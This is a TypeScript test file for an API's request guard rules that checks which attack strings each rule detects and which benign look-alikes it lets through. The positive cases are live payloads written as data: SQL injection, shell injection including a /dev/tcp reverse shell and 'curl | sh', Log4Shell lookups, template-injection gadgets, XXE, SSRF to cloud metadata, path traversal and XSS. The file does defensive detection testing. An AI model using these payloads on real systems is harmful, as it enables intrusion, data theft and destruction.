import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { RULES } from '../../src/channels/api/guards/rules/index.ts';
import { REQUEST_GUARDS } from '../../src/channels/api/guards/settings.ts';
import { found } from './finds.ts';

/** For each rule what it finds, and benign text that is nearly that. */
// biome-ignore format: a table
// biome-ignore-start lint/suspicious/noTemplateCurlyInString: what attackers write
const CASES: Readonly<Record<string, { readonly is: readonly string[]; readonly is_not: readonly string[] }>> = {
  'sql-tautology': { is: ["' OR 1=1 --", "x' or 'a'='a", '1 OR 1=1', "1') AND 4021=4021", '1/**/or/**/1=1', "' || '1'='1", "1 and sleep(5)", "x' AND email IS NULL; --", "' or name like '%"], is_not: ["O'Brien or Smith", 'this or that = other', "it's 5 and 6 are left", '5 or 6 items', "'a' and 'b'", 'functions length() and substr()'] },
  'sql-subquery': { is: ['1 AND 2=(SELECT COUNT(*) FROM t)', '1 AND (SELECT (CASE WHEN (1=1) THEN 1 ELSE 2 END))', '1 AND MAKE_SET(1=1,2)'], is_not: ['select one of (select options)', 'the case when it rains'] },
  'sql-union': { is: ['1 UNION SELECT null,null', "' union all select 1,2 --", "-1' UNION/**/SELECT user,password FROM users"], is_not: ['the union selected a chair', 'Select Union committee', 'union select committee'] },
  'sql-stacked': { is: ['1; DROP TABLE users', "'; delete from orders --", "1;WAITFOR DELAY '0:0:5'"], is_not: ['drop table tennis', 'first; then drop the table', 'delete from my list; 7'] },
  'sql-delay': { is: ["' AND SLEEP(5)#", "';SELECT pg_sleep(5)--", "';WAITFOR DELAY '0:0:5'--", "' or benchmark(5000000,md5(1))"], is_not: ['sleep(well)', 'a benchmark (5) of', 'the delay is 5'] },
  'sql-probe': { is: ["' and 1=1 union select table_name from information_schema.tables", "1' ORDER BY 10--", "'; exec xp_cmdshell('dir')", "' into outfile '/tmp/x'"], is_not: ['order by 5 pm', 'information schema', 'the load file'] },
  'sql-comment': { is: ["admin'--", "admin' #", "x')--", "admin'/*"], is_not: ["the 'best' -- ever", "boys' #1 pick", "'quoted'"] },
  'shell-substitution': { is: ['$(whoami)', 'x`id`', '$(curl http://x.test/a)', 'cat${IFS}a'], is_not: ['the `id` of the order', '$(document).ready', 'price $(5)', '`code`'] },
  'shell-command': { is: ['; cat /etc/passwd', 'x|uname -a', '& ping -c 5 x.test', 'a; sleep 10', 'bash -i >& /dev/tcp/1.2.3.4/44'], is_not: ['cat and dog; sleep well', 'Ann; id card', 'shipping & handling', '| ID | name |'] },
  'shell-chain': { is: ['curl x | sh', 'a; rm -rf b'], is_not: ['a; remember', 'this | that'] },
  log4shell: { is: ['${jndi:ldap://x.test/a}', '${${lower:j}ndi:x}', '${${::-j}${::-n}di:x}'], is_not: ['${name}', '${FOO:-}', '${env:HOME}'] },
  'template-sum': { is: ['{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}'], is_not: ['{{name}}', '${a}', '{{ 7 }}', '7*7'] },
  'template-expression': { is: ["{{''.__class__.__mro__}}", '${T(java.lang.Runtime).getRuntime()}', '{{config.items()}}'], is_not: ['{{order.name}}', 'java.lang.String', '__init__'] },
  'template-object': { is: ["''.__class__.__base__.__subclasses__()", '<#assign x="freemarker.template.utility.Execute"?new()>'], is_not: ['__class__', 'the class of'] },
  'ldap-filter': { is: ['*)(uid=*))(|(uid=*', 'admin)(&(a=b)'], is_not: ['(see above)(and below)', 'f(x)*(y)', '*) note'] },
  'header-split': { is: ['x\r\nSet-Cookie: a=b', 'x%0d%0aLocation: http://x.test'], is_not: ['a line\nlocation: Tallinn', 'set-cookie'] },
  'serialized-object': { is: ['rO0ABXNyABFqYXZhLnV0aWwu', 'O:8:"stdClass":1:{s:1:"a";i:1;}'], is_not: ['rO0A', 'O:8 is late'] },
  'server-side-include': { is: ['<!--#exec cmd="id" -->'], is_not: ['<!-- exec -->'] },
  'path-target': { is: ['../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', 'file:///etc/shadow', 'C:\\windows\\system32\\a'], is_not: ['users are in /etc/passwd', '../docs/readme.md', 'C:\\Users\\ann', 'etcetera'] },
  'path-steps': { is: ['../../../a', '....//....//a', '..%2f..%2fa'], is_not: ['../../a', 'and so on.../'] },
  'metadata-address': { is: ['http://169.254.169.254/latest', 'http://metadata.google.internal/', 'http://[fd00:ec2::254]/', 'http://x@169.254.169.254/'], is_not: ['169.254.169.254', 'https://example.com/169.254.169.254', 'https://metadata.example.com/'] },
  'internal-address': { is: ['http://127.0.0.1/', 'http://10.1.2.3:80/', 'http://[::1]/', 'http://2130706433/', 'http://0x7f.0.0.1/', 'http://localhost:3000', 'http://192.168.0.1'], is_not: ['http://8.8.8.8/', 'https://10things.example/', 'http://[2001:db8::1]/', 'http://172.32.0.1/'] },
  'odd-scheme': { is: ['gopher://x:70/_a', 'php://filter/read=a', 'jar:http://x.test/a!/b', 'ldap://x.test/a'], is_not: ['https://x.test', 'the gopher', 'xldap://a/b'] },
  'file-scheme': { is: ['file:///tmp/a'], is_not: ['profile://a', 'file: a'] },
  'xml-external': { is: ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '<!ENTITY % p SYSTEM "http://x.test/p">', '<xi:include href="file:///a"/>'], is_not: ['<!DOCTYPE html>', '<!doctype fontconfig system "fonts.dtd">'] },
  'xml-declaration': { is: ['<!DOCTYPE a SYSTEM "a.dtd">', '<!ENTITY a "b">'], is_not: ['<!DOCTYPE html>', '<!DOCTYPE html SYSTEM "about:legacy-compat">'] },
  'script-markup': { is: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:alert(1)'], is_not: ['<b>bold</b>', 'the script', 'javascript: a language'] },
};
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: what attackers write

describe('rules over requests', () => {
  for (const [rule, { is, is_not }] of Object.entries(CASES)) {
    for (const text of is) {
      it(`${rule} is found: ${JSON.stringify(text)}`, () => {
        assert.ok(found(text, REQUEST_GUARDS).includes(rule), found(text, REQUEST_GUARDS).join(' '));
        assert.ok(found(encodeURIComponent(text), REQUEST_GUARDS, true).includes(rule), 'percent-encoded once more');
      });
    }
    for (const text of is_not) {
      it(`${rule} is not: ${JSON.stringify(text)}`, () => {
        assert.ok(!found(text, REQUEST_GUARDS).includes(rule));
      });
    }
  }

  it('every rule over requests has its cases', () => {
    const names = RULES.filter(({ guard }) => REQUEST_GUARDS.some((name) => name === guard)).map(({ id }) => id);
    assert.deepEqual(Object.keys(CASES).sort(), names.sort());
  });
});
